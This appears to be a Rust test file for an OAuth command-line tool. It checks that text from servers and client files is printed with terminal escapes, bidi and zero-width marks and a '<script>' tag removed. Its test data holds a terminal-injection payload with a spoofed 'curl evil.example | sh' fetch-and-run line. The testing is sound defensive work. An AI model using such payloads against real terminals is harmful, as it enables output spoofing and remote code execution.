//! Text that comes from a server reaches the terminal without its teeth (L-16).
#![cfg(feature = "cli")]

mod support;

use gauth::sandbox::{Endpoint, Fault, IdTokenFault};
use serde_json::json;
use support::{ALICE, Ran, Running, TestEnv, Visit, complete, sandbox};
use url::Url;

/// A title, a colour by C1, a carriage return, a line that looks like an answer, and marks that reorder and hide.
const HOSTILE: &str =
    "a\u{1b}]0;owned\u{7}b\u{9b}31mc\rerror: d\nhint: curl evil.example | sh\u{202e}e\u{2066}f\u{200b}g\u{7f}\u{8}h";

/// No control but the line ends of gauth's own, and nothing that reorders or hides.
fn assert_harmless(ran: &Ran) {
    let is_bad = |c: char| {
        let is_mark =
            matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}');
        (c.is_control() && c != '\n') || is_mark
    };
    for text in [&ran.stderr, &ran.stdout] {
        let text = std::str::from_utf8(text).expect("UTF-8");
        assert!(!text.contains(is_bad), "{text:?}");
        assert!(!text.lines().any(|line| line.starts_with("hint: curl")), "no line of the server's own:\n{text}");
    }
    assert!(!ran.stderr().contains(&"x".repeat(3000)), "over-long text is cut");
}

/// A login whose answer has these parameters.
fn answered(more: &[(&str, &str)]) -> Ran {
    let (env, sandbox) = (TestEnv::new(), sandbox());
    let login = env.login(&sandbox, &["-vv"]);
    let (state, base) = (login.state(), login.redirect_uri());
    let own = [("state", state.as_str()), ("iss", sandbox.issuer())];
    let own = own.iter().filter(|(name, _)| !more.iter().any(|(other, _)| other == name));
    let url = Url::parse_with_params(base.as_str(), own.chain(more)).expect("a URL");
    login.visit(url.as_str()).assert_not_signed_in();
    login.wait()
}

#[test]
fn an_error_in_the_callback_is_shown_without_escapes() {
    let ran = answered(&[("error", HOSTILE), ("error_description", HOSTILE), ("error_subtype", HOSTILE)]);
    assert_harmless(&ran);
    ran.failed_with(5).said("owned");
}

#[test]
fn an_endless_description_is_cut() {
    let ran = answered(&[("error", "access_denied"), ("error_description", &"x".repeat(8000))]);
    assert_harmless(&ran);
    ran.failed_with(5).said("xxx");
}

#[test]
fn an_issuer_in_the_callback_is_shown_without_escapes() {
    let ran = answered(&[("code", "c"), ("iss", HOSTILE)]);
    assert_harmless(&ran);
    ran.failed_with(1).said("owned");
}

#[test]
fn an_error_of_the_token_endpoint_is_shown_without_escapes() {
    for error in ["invalid_grant", "invalid_client", HOSTILE] {
        let (env, sandbox) = (TestEnv::new(), sandbox());
        sandbox.inject(Fault::error(400, error, HOSTILE));
        let (ran, visit) = complete(env.login_command(&sandbox, &["-vv"]), |url| sandbox.approve(url, ALICE));
        visit.assert_not_signed_in();
        assert_harmless(&ran);
        assert!(ran.stderr().contains("owned"), "{}", ran.stderr());
    }
}

/// A login in which the provider gives this name to the account and these scopes to the grant.
fn named_so(env: &TestEnv, more: &[&str]) -> (Ran, Visit) {
    let sandbox = sandbox();
    let email = format!("{HOSTILE}<script>@example.test");
    sandbox.inject(Fault::IdToken(IdTokenFault::Claims(json!({ "email": email }))));
    sandbox.inject(Fault::Patch(json!({ "scope": format!("openid {HOSTILE}") })));
    let (ran, visit) = complete(env.login_command(&sandbox, more), |url| sandbox.approve(url, ALICE));
    (ran.succeeded(), visit)
}

/// The account's name and the scopes are the provider's text as well.
#[test]
fn an_account_and_its_scopes_are_shown_without_escapes() {
    let env = TestEnv::new();
    let (ran, visit) = named_so(&env, &["-vv"]);
    assert_harmless(&ran.said("owned"));
    let is_bad = |c: char| (c.is_control() && c != '\n') || matches!(c, '\u{202e}' | '\u{2066}' | '\u{200b}');
    assert!(!visit.page.body.contains(is_bad) && !visit.page.body.contains("<script"), "{}", visit.page.body);
    for command in ["list", "status"] {
        assert_harmless(&env.run(&[command]).succeeded());
    }
}

/// JSON can say every character without showing it.
#[test]
fn json_answers_spell_such_characters_as_escapes() {
    let env = TestEnv::new();
    let (ran, _) = named_so(&env, &["--json"]);
    for ran in [ran, env.run(&["list", "--json"]), env.run(&["status", "--json"]), env.run(&["token", "--json"])] {
        assert!(ran.json().to_string().contains('\u{9b}'), "the text itself is whole");
        assert_harmless(&ran);
    }
}

#[test]
fn a_discovery_document_is_shown_without_escapes() {
    for members in
        [json!({ "issuer": HOSTILE }), json!({ "authorization_endpoint": format!("http://x.example/{HOSTILE}") })]
    {
        let (env, sandbox) = (TestEnv::new(), sandbox());
        sandbox.inject(Fault::Patch(members).at(Endpoint::Discovery));
        let args = ["login", "-vv", "--no-browser", "--client-id", "sandbox-public", "--issuer", sandbox.issuer()];
        let ran = Running::start(env.gauth(&args)).wait().failed_with(3);
        assert_harmless(&ran);
    }
}

/// What a person pasted from somewhere is somebody else's text too.
#[test]
fn a_client_file_is_shown_without_escapes() {
    let (env, sandbox) = (TestEnv::new(), sandbox());
    for name in ["auth_uri", "token_uri", "client_id", "project_id"] {
        let mut file: serde_json::Value =
            serde_json::from_str(&sandbox.client_secrets_json(support::CLIENT)).expect("a client file");
        file["installed"][name] = json!(format!("http://other.example/{HOSTILE}"));
        let path = env.write("hostile.json", &file.to_string());
        let mut command = env.gauth(&["login", "-vv", "--no-browser", "--timeout", "1s", "--client-secrets"]);
        command.arg(path);
        assert_harmless(&Running::start(command).wait());
    }
}
